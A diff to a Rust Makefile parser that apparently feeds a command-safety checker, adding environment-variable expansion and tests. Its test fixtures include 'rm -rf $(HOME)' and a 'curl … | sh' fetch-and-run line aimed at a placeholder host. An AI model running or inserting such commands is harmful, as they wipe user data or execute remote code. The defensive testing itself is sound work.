@@ -165,6 +165,7 @@ fn make_commands(text: &str) -> Vec<(usize, Option<String>, String)> {
         ("CP", "cp"),
         ("MV", "mv"),
         ("SHELL", "/bin/sh"),
+        ("CURDIR", "."),
     ]
     .iter()
     .map(|(k, v)| (k.to_string(), v.to_string()))
@@ -317,6 +318,10 @@ fn expand_make(text: &str, vars: &HashMap<String, String>, depth: usize) -> Stri
                     // A make function (`$(wildcard …)`, `$(patsubst …)`): its arguments.
                     let args = inner.split_once(' ').map(|(_, a)| a).unwrap_or("");
                     out.push_str(&expand_make(args, vars, depth + 1));
+                } else if !inner.is_empty() {
+                    // Not defined in the Makefile: make takes it from the environment, as
+                    // the shell would (`$(HOME)` is the home directory).
+                    out.push_str(&format!("${{{}}}", inner.trim()));
                 }
                 i = j + 1;
             }
@@ -443,6 +448,7 @@ mod tests {
             )
             .is_empty()
         );
+        assert_eq!(make_commands("x:\n\trm -rf $(HOME)\n")[0].2, "rm -rf ${HOME}");
         let f = makefile(
             "X := $(shell curl -s https://e.example/x | sh)\nall:\n\techo\n",
             &FakeEngine,
